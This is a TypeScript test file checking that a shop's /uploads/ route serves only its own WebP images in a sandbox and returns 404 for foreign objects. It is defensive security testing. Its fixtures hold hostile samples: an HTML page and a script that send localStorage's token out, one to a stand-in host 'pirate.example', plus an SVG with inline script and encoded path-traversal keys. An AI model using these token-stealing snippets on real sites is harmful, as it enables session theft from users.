// Issue 22: /uploads/… serves only the keys the shop writes (product photos and banners, WebP in the
// widths it draws), always as image/webp in a sandbox, on the local disk and on an S3 bucket alike.
// Objects someone else put in the storage (a shared bucket, a leaked key, a restored archive) are
// answered 404, even when their type says HTML or JavaScript.
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gql, startTestApp, type TestApp } from "./helpers.ts";
import { signInAs } from "./session.ts";
import { upload } from "./multipart.ts";
import { startS3Server } from "./s3-server.ts";
import { createCategory } from "../fixtures/catalogue.ts";
import { isShopImageKey } from "../../server/src/services/media.ts";

const CREATE = `mutation($input: ProductInput!, $images: [File!]) { createProduct(input: $input, images: $images) { images { url srcSet } } }`;
const SANDBOX = "default-src 'none'; style-src 'unsafe-inline'; sandbox";
const PAGE = Buffer.from("<!doctype html><script>fetch('/graphql',{method:'POST',body:localStorage.getItem('token')})</script>");
const SCRIPT = Buffer.from("fetch('https://pirate.example/'+localStorage.getItem('token'))");

/** Objects the shop never wrote, with the type a hostile writer gives them. */
const FOREIGN: [string, Buffer, string][] = [
  ["notes/evil.html", PAGE, "text/html"],
  ["evil.js", SCRIPT, "text/javascript"],
  ["banners/evil.svg", Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), "image/svg+xml"],
  ["products/p1/evil.html", PAGE, "text/html"],
  ["products/p1/0123456789ab-800.html", PAGE, "text/html"],
  ["products/p1/0123456789ab-800.webp.js", SCRIPT, "text/javascript"],
  ["products/p1/0123456789ab-999.webp", PAGE, "text/html"], // a width the shop never draws
  ["products/P1/Photo-800.webp", PAGE, "text/html"], // the shop's keys are lower case
  ["products/p1/sub/0123456789ab-800.webp", PAGE, "text/html"],
  ["banners/banniere-1-480.webp", PAGE, "text/html"], // banners come in 800 and 1600
  ["_ready/sonde", Buffer.from("ok"), "text/plain"],
];
/** Shaped like a photo's key, its bytes and stored type a page's: served, as an image in a sandbox. */
const DISGUISED = "products/p1/0123456789ab-800.webp";

const photo = (side: number) =>
  sharp({ create: { width: side, height: side, channels: 3, background: "#8a2d3b" } })
    .png()
    .toBuffer();
const addresses = (urls: { url?: string; srcSet: string }[]) =>
  urls.flatMap((u) => [...(u.url ? [u.url] : []), ...u.srcSet.split(", ").map((s) => s.split(" ")[0])]);

function suite(name: string, start: () => Promise<{ app: TestApp; stop: () => Promise<void> }>) {
  describe(`/uploads/ [${name}]`, () => {
    let app: TestApp;
    let stop = async () => {};
    let shopUrls: string[] = [];
    beforeAll(async () => {
      ({ app, stop } = await start());
      const token = (await signInAs(app, "ADMIN")).accessToken;
      const category = await createCategory(app.prisma, "Photos");
      const created = await upload(
        app,
        token,
        CREATE,
        { input: { nom: "Calebasse", prix: 5000, stock: 5, typeProduit: category.id }, images: [null, null] },
        {
          "variables.images.0": [await photo(1700), "grande.png"],
          "variables.images.1": [await photo(300), "petite.png"],
        },
      );
      expect(created.errors, JSON.stringify(created.errors)).toBeUndefined();
      const banners = (await gql(app, "{ bannieres { url srcSet } }")).data.bannieres;
      shopUrls = [...new Set([...addresses(created.data.createProduct.images), ...addresses(banners)])];
      for (const [key, body, type] of [...FOREIGN, [DISGUISED, PAGE, "text/html"] as const])
        await app.services.storage.put(key, body, type);
    });
    afterAll(() => stop());

    it("serves every photo and banner the shop wrote, as image/webp in a sandbox", async () => {
      expect(shopUrls.length).toBe(5 + 12); // 200/480/800/1600 + 200, six banners in two widths
      for (const url of shopUrls) {
        expect(isShopImageKey(url.slice("/uploads/".length))).toBe(true);
        for (const method of ["GET", "HEAD"]) {
          const res = await fetch(app.url + url, { method });
          expect([
            url,
            method,
            res.status,
            res.headers.get("content-type"),
            res.headers.get("x-content-type-options"),
            res.headers.get("content-security-policy"),
          ]).toEqual([url, method, 200, "image/webp", "nosniff", SANDBOX]);
        }
      }
    });

    it("answers 404 for every object the shop did not write, whatever its type, without the body", async () => {
      for (const [key] of FOREIGN) {
        for (const method of ["GET", "HEAD"]) {
          const res = await fetch(`${app.url}/uploads/${key}`, { method });
          const body = await res.text();
          expect([key, method, res.status, res.headers.get("content-type")]).toEqual([key, method, 404, "text/plain; charset=utf-8"]);
          expect(body).toBe(method === "GET" ? "Image non disponible" : "");
        }
      }
      // The same keys spelt with encoded characters, or reaching them through another folder.
      for (const p of [
        "notes%2Fevil.html",
        "banners/..%2Fevil.js",
        "products/p1/0123456789ab-800%2Ewebp",
        "banners%2Fbanniere-1-800.webp",
      ]) {
        expect([p, (await fetch(`${app.url}/uploads/${p}`)).status]).toEqual([p, 404]);
      }
    });

    it("serves an object under a photo's key as image/webp in a sandbox, never as the page its type claims", async () => {
      const res = await fetch(`${app.url}/uploads/${DISGUISED}`);
      expect([
        res.status,
        res.headers.get("content-type"),
        res.headers.get("content-security-policy"),
        res.headers.get("x-content-type-options"),
      ]).toEqual([200, "image/webp", SANDBOX, "nosniff"]);
      expect(Buffer.from(await res.arrayBuffer()).equals(PAGE)).toBe(true);
    });
  });
}

suite("disque local", async () => {
  const app = await startTestApp("pglite");
  return { app, stop: () => app.stop() };
});

suite("bucket S3", async () => {
  const s3 = await startS3Server();
  const app = await startTestApp("pglite", s3.env);
  return {
    app,
    stop: async () => {
      await app.stop();
      await s3.close();
    },
  };
});
